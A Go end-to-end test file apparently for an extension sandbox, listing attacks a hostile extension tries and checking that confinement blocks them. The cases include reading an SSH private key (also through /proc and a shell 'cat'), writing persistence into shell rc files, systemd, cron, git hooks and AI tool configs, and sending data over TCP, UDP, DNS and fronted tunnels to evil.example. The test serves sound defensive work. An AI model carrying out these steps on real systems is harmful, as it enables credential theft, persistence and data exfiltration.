package e2e

import (
	"crypto/rand"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// An attack is one thing that the hostile extension tries. It worked when its answer has the secret, or when its mark was
// heard outside or stands in its file.
type attack struct {
	name string
	tool string
	args map[string]any // "MARK" in a text becomes the attack's mark
	file string         // that would have the mark
	open bool           // docs/sandbox.md says that it works in the limited mode
	may  bool           // it is granted: it must work
}

func (s *scene) attacks(t *testing.T, p part) []attack {
	return slices.Concat(s.thefts(), s.persistence(s.bundle(t, p)), s.exfiltration(), s.fronting())
}

type args = map[string]any

func (s *scene) thefts() []attack {
	key := filepath.Join(s.dir, ".ssh/id_rsa")
	list := []attack{
		{name: "read the key for ssh", tool: "read", args: args{"path": key}},
		{name: "read it by way of /proc", tool: "read", args: args{"path": "/proc/self/root" + key}},
		{name: "read it by a program", tool: "run", args: args{"argv": []string{"/bin/sh", "-c", "cat " + key}}},
		{name: "read the person's documents", tool: "walk", args: args{"path": filepath.Join(s.dir, "Documents")}},
		{name: "read the data of others", tool: "walk", args: args{"path": filepath.Join(s.dir, "satchel/data")}},
		{name: "read the environment of others", tool: "environments"},
	}
	if s.records != "" {
		list = append(list, attack{name: "read the answers to others", tool: "walk", args: args{"path": s.records}})
	}
	for _, b := range s.buses {
		list = append(list, attack{name: "ask the keychain at " + strings.SplitAfter(b, "=")[0], tool: "keychain", args: args{"address": b}})
	}
	return list
}

func (s *scene) persistence(bundle string) []attack {
	own := filepath.Join(bundle, "manifest.json")
	list := []attack{{name: "change its own bundle", tool: "append", args: args{"path": own, "text": "MARK"}, file: own}}
	for _, name := range []string{
		".bashrc", ".profile", ".zshrc", ".config/autostart/own.desktop", ".config/systemd/user/own.service", ".config/environment.d/own.conf",
		".claude.json", ".config/Claude/claude_desktop_config.json", ".cursor/mcp.json", ".gitconfig", "satchel/data/local/other/diary.txt", "work/satchel",
	} {
		file := filepath.Join(s.dir, name)
		list = append(list, attack{name: "write ~/" + name, tool: "append", args: args{"path": file, "text": "MARK"}, file: file})
	}
	if os.Getuid() == 0 {
		// Names with a dot are none that cron takes.
		file := "/etc/cron.d/satchel.e2e." + rand.Text()
		list = append(list, attack{name: "write a crontab", tool: "append", args: args{"path": file, "text": "# MARK"}, file: file})
	}
	git := filepath.Join(s.project, ".git")
	for _, name := range []string{".git/hooks/pre-commit", ".git/hooks/post-checkout", ".git/config", ".vscode/tasks.json"} {
		file := filepath.Join(s.project, name)
		list = append(list, attack{name: "write " + name, tool: "append", args: args{"path": file, "text": "MARK"}, file: file, open: true})
	}
	hook, bashrc := filepath.Join(git, "hooks/post-merge"), filepath.Join(s.dir, ".bashrc")
	return append(list,
		attack{name: "put another repository in the place", tool: "replace", args: args{"folder": git, "path": hook, "text": "MARK"}, file: hook, open: true},
		attack{name: "write through a link", tool: "through_link", args: args{"path": bashrc, "link": filepath.Join(s.project, "link"), "text": "MARK"}, file: bashrc},
		attack{name: "write to the project", tool: "append", args: args{"path": filepath.Join(s.project, "main.c"), "text": "MARK"}, file: filepath.Join(s.project, "main.c"), may: true},
		attack{name: "write to its own folder", tool: "append", args: args{"path": filepath.Join(s.own, "notes"), "text": "MARK"}, file: filepath.Join(s.own, "notes"), may: true},
	)
}

func (s *scene) exfiltration() []attack {
	var list []attack
	for _, a := range s.tcp {
		list = append(list, attack{name: "say it to the database at " + a, tool: "send", args: args{"network": "tcp", "address": a, "text": "MARK"}})
	}
	for _, a := range s.udp {
		list = append(list, attack{name: "say it by UDP to " + a, tool: "send", args: args{"network": "udp", "address": a, "text": "MARK"}})
	}
	for _, a := range s.names {
		list = append(list, attack{name: "ask the name server " + a, tool: "look_up", args: args{"server": a, "name": "MARK.evil.example"}})
	}
	return list
}

// fronting goes through the proxy, which the person's machine has too.
func (s *scene) fronting() []attack {
	through := func(name, ask, server, host string) attack {
		return attack{name: name, tool: "tunnel", args: args{"ask": ask, "server": server, "host": host, "text": "MARK"}}
	}
	fine := through("reach the granted host", granted+":443", granted, granted)
	fine.may = true
	return []attack{
		fine,
		{name: "reach the granted host by HTTP", tool: "request", args: args{"url": "http://" + granted + "/MARK"}, may: true},
		through("tunnel to another host", "evil.example:443", "evil.example", "evil.example"),
		through("tunnel to a name that tells", "MARK.evil.example:443", "evil.example", "evil.example"),
		through("tunnel to another port", granted+":8443", granted, granted),
		through("front another host in TLS", granted+":443", "evil.example", "evil.example"),
		through("name no host in TLS", granted+":443", "", "evil.example"),
		through("front another host without TLS", granted+":80", "plain", "evil.example"),
		through("tunnel to the database", s.tcp[0], "plain", "x"),
		through("tunnel to the database by name", "localhost"+s.tcp[0][strings.LastIndexByte(s.tcp[0], ':'):], "plain", "x"),
		{name: "request of another host", tool: "request", args: args{"url": "http://evil.example/MARK"}},
		{name: "front another host in a request", tool: "request", args: args{"url": "http://" + granted + "/MARK", "host": "evil.example"}},
	}
}

// try makes an attack and tells whether it worked, and what the server says of it.
func (s *scene) try(t *testing.T, server served, a attack) (worked bool, text string) {
	t.Helper()
	mark := "mark-" + strings.ToLower(rand.Text())
	in := args{}
	for key, v := range a.args {
		if text, ok := v.(string); ok {
			v = strings.ReplaceAll(text, "MARK", mark)
		}
		in[key] = v
	}
	text, _ = server.ask(t, a.tool, in)
	written, err := os.ReadFile(a.file)
	if a.file != "" && err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return strings.Contains(text, s.secret) || s.has(mark) || strings.Contains(string(written), mark), text
}

// TestHostileExtension: what works for a program that nothing holds does not for one that is held, however it is started;
// nothing leaves, nothing stays.
func TestHostileExtension(t *testing.T) {
	t.Parallel()
	t.Run(string(bare), func(t *testing.T) {
		t.Parallel()
		s := newScene(t)
		s.neighbour(t)
		p := s.extension(t, bare)
		server := s.serve(t, p)
		for _, a := range s.attacks(t, p) {
			if strings.HasPrefix(a.file, "/etc/") {
				t.Cleanup(func() { os.Remove(a.file) })
			}
			if worked, text := s.try(t, server, a); !worked {
				t.Errorf("%s proves nothing: nothing holds the server, and it says %q", a.name, text)
			}
		}
	})
	for _, w := range ways() {
		t.Run(string(w), func(t *testing.T) {
			t.Parallel()
			s := newScene(t)
			p := s.extension(t, w)
			if w.installs() {
				s.neighbour(t)
			}
			server := s.serve(t, p)
			before := s.snapshot(t)
			for _, a := range s.attacks(t, p) {
				worked, text := s.try(t, server, a)
				if worked != (a.may || a.open && w.limited()) {
					t.Errorf("%s: it worked: %v; the server says %q", a.name, worked, text)
				}
			}
			if err := server.Close(); err != nil {
				t.Error(err)
			}
			same(t, "the person's files", s.snapshot(t), before)
		})
	}
}

// snapshot is all of the person's files but those where the extension may write, and Satchel's own records.
func (s *scene) snapshot(t *testing.T) tree {
	t.Helper()
	all := tree{}
	for _, name := range []string{".ssh", ".config", "Documents", "work", "tmp", "satchel/data/local/other"} {
		for file, content := range readTree(t, filepath.Join(s.dir, name)) {
			all[filepath.Join(name, file)] = content
		}
	}
	entries, err := os.ReadDir(s.dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.Type().IsRegular() {
			all[e.Name()] = readFile(t, filepath.Join(s.dir, e.Name()))
		}
	}
	return all
}

// TestHostileExtensionOutlivesNothing: what it leaves behind, in a session of its own and without a parent, is gone when
// what started it is killed.
func TestHostileExtensionOutlivesNothing(t *testing.T) {
	t.Parallel()
	for _, w := range append([]way{bare}, ways()...) {
		t.Run(string(w), func(t *testing.T) {
			t.Parallel()
			s := newScene(t)
			server := s.serve(t, s.extension(t, w))
			beats := filepath.Join(s.own, "beats")
			pid, failed := server.ask(t, "outlive", args{"path": beats})
			if failed || !locked(t, beats) {
				t.Fatalf("it says %q", pid)
			}
			if err := server.host.Process.Kill(); err != nil {
				t.Fatal(err)
			}
			if w == bare {
				stillBeats(t, beats, pid)
				return
			}
			ends(t, "what was left behind", func() bool { return !locked(t, beats) })
			checkNoProcess(t, s.own)
		})
	}
}

// locked tells whether a process holds the lock of a file: until it has ended.
func locked(t *testing.T, name string) bool {
	t.Helper()
	f, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	return syscall.Flock(int(f.Fd()), syscall.LOCK_SH|syscall.LOCK_NB) == syscall.EWOULDBLOCK
}

// ends waits until something is so.
func ends(t *testing.T, what string, so func() bool) {
	t.Helper()
	deadline, tick := time.After(10*time.Second), time.NewTicker(5*time.Millisecond)
	defer tick.Stop()
	for !so() {
		select {
		case <-tick.C:
		case <-deadline:
			t.Errorf("%s does not end", what)
			return
		}
	}
}

// stillBeats demands that what was left behind is alive, and ends it.
func stillBeats(t *testing.T, beats, pid string) {
	t.Helper()
	size := func() int64 {
		info, err := os.Stat(beats)
		if err != nil {
			t.Fatal(err)
		}
		return info.Size()
	}
	first := size()
	ends(t, "the silence of what nothing holds", func() bool { return size() > first })
	n, err := strconv.Atoi(pid)
	if err != nil {
		t.Fatal(err)
	}
	if err := syscall.Kill(n, syscall.SIGKILL); err != nil {
		t.Errorf("what nothing holds is gone: %v", err)
	}
}
